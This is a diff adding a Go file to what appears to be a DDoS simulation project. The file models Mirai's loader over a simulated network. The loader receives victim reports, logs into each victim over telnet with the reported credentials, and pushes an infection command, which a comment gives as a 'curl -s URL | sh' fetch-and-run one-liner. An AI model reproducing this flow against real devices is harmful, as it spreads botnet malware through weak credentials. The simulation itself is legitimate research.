@@ -1,0 +1,134 @@
+package mirai
+
+import (
+	"net/netip"
+	"strings"
+
+	"ddosim/internal/container"
+	"ddosim/internal/netsim"
+)
+
+// LoaderConfig parameterizes the Mirai loader.
+type LoaderConfig struct {
+	// Port is the scanListen port. Defaults to ScanListenPort.
+	Port uint16
+	// InfectionCommand is the shell one-liner pushed through the
+	// victim's telnet session (curl -s URL | sh).
+	InfectionCommand string
+	// OnLoaded observes each successful load.
+	OnLoaded func(victim netip.Addr)
+}
+
+// Loader is Mirai's loading infrastructure: it accepts victim reports
+// from scanners, telnets in with the reported credentials, and pushes
+// the infection command.
+type Loader struct {
+	cfg LoaderConfig
+	p   *container.Process
+
+	loaded map[netip.Addr]bool
+
+	// Counters for tests and experiments.
+	Reports uint64
+	Loads   uint64
+}
+
+var _ container.Behavior = (*Loader)(nil)
+
+// NewLoader creates the behaviour.
+func NewLoader(cfg LoaderConfig) *Loader {
+	if cfg.Port == 0 {
+		cfg.Port = ScanListenPort
+	}
+	return &Loader{cfg: cfg, loaded: make(map[netip.Addr]bool)}
+}
+
+// LoaderFactory adapts NewLoader to the binary registry.
+func LoaderFactory(cfg LoaderConfig) container.BehaviorFactory {
+	return func(args []string) container.Behavior { return NewLoader(cfg) }
+}
+
+// Name implements container.Behavior.
+func (l *Loader) Name() string { return "scanListen" }
+
+// Start implements container.Behavior.
+func (l *Loader) Start(p *container.Process) {
+	l.p = p
+	if _, err := p.ListenTCP(l.cfg.Port, l.accept); err != nil {
+		p.Logf("loader: %v", err)
+	}
+}
+
+// Stop implements container.Behavior.
+func (l *Loader) Stop(*container.Process) {}
+
+// Loaded reports how many distinct victims were infected.
+func (l *Loader) Loaded() int { return len(l.loaded) }
+
+func (l *Loader) accept(conn *netsim.TCPConn) {
+	var lb lineBuffer
+	conn.SetDataHandler(func(data []byte) {
+		for _, line := range lb.feed(data) {
+			l.onReport(line)
+		}
+	})
+	conn.SetCloseHandler(func(error) {})
+}
+
+func (l *Loader) onReport(line string) {
+	fields := strings.Fields(line)
+	if len(fields) != 4 || fields[0] != "victim" {
+		return
+	}
+	addr, err := netip.ParseAddr(fields[1])
+	if err != nil {
+		return
+	}
+	l.Reports++
+	if l.loaded[addr] {
+		return // already handled; scanners re-discover constantly
+	}
+	l.loaded[addr] = true
+	l.load(addr, fields[2], fields[3])
+}
+
+// load drives the victim's telnet session: login, push the infection
+// one-liner, wait for the prompt to return, exit.
+func (l *Loader) load(victim netip.Addr, user, pass string) {
+	l.p.DialTCP(netip.AddrPortFrom(victim, 23), func(c *netsim.TCPConn, err error) {
+		if err != nil {
+			delete(l.loaded, victim) // allow a retry on a later report
+			return
+		}
+		var transcript strings.Builder
+		stage := 0
+		c.SetDataHandler(func(data []byte) {
+			transcript.Write(data)
+			text := transcript.String()
+			switch {
+			case stage == 0 && strings.Contains(text, "login: "):
+				stage = 1
+				_ = c.Send([]byte(user + "\n"))
+			case stage == 1 && strings.Contains(text, "Password: "):
+				stage = 2
+				_ = c.Send([]byte(pass + "\n"))
+			case stage == 2 && strings.Contains(text, "$ "):
+				stage = 3
+				_ = c.Send([]byte(l.cfg.InfectionCommand + "\n"))
+			case stage == 3 && strings.Count(text, "$ ") >= 2:
+				stage = 4
+				l.Loads++
+				if l.cfg.OnLoaded != nil {
+					l.cfg.OnLoaded(victim)
+				}
+				_ = c.Send([]byte("exit\n"))
+				c.Close()
+			}
+		})
+		c.SetCloseHandler(func(cerr error) {
+			if stage < 4 {
+				delete(l.loaded, victim)
+			}
+		})
+	})
+}
